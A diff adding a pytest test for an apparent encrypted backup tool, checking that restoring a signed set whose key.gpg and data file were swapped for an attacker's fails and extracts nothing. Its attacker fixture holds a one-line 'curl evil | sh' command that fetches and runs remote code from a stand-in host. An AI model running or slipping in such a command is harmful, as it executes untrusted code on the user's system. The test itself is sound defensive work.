@@ -278,3 +278,26 @@ def test_an_unencrypted_set_signed_with_sign_key_proves_itself_with_trust_key(
     assert r.code == 0 and f"restored set {signed.name}" in r.out, r.err
     r = cli("restore", dest, "--id", PLANTED, "--into", tmp_path / "no", "--trust-key", fpr)
     assert r.code == 1 and not (tmp_path / "no").exists()
+
+
+def test_a_swapped_key_gpg_in_a_signed_set_opens_nothing(
+    cli, tmp_path: Path, tree: Path, with_keyring: Keyring
+) -> None:
+    """Issue 30 review: anyone can wrap a key to your public key. A signed set's key.gpg
+    and entry swapped for the attacker's (made for the same public key) must not be
+    decrypted and applied: the signed manifest's auth binds the data key."""
+    dest, theirs = tmp_path / "dest", tmp_path / "theirs"
+    fpr = with_keyring.fingerprint
+    assert cli("backup", "--name", f"app={tree}", "--to", dest, "--recipient", fpr,
+               "--sign-key", fpr).code == 0  # fmt: skip
+    evil = tmp_path / "evil"
+    evil.mkdir()
+    (evil / "payload.sh").write_text("curl evil | sh\n")
+    assert cli("backup", "--name", f"app={evil}", "--to", theirs, "--recipient",
+               str(with_keyring.public_key_file)).code == 0  # fmt: skip
+    mine = only_set(dest)
+    for name in ("key.gpg", "app.tar.zst.gpg"):
+        (mine / name).write_bytes((only_set(theirs) / name).read_bytes())
+    r = cli("restore", dest, "--into", tmp_path / "out", "--trust-key", fpr)
+    assert r.code == 1 and "opens to another key" in r.err, r.err
+    assert not (tmp_path / "out").exists()
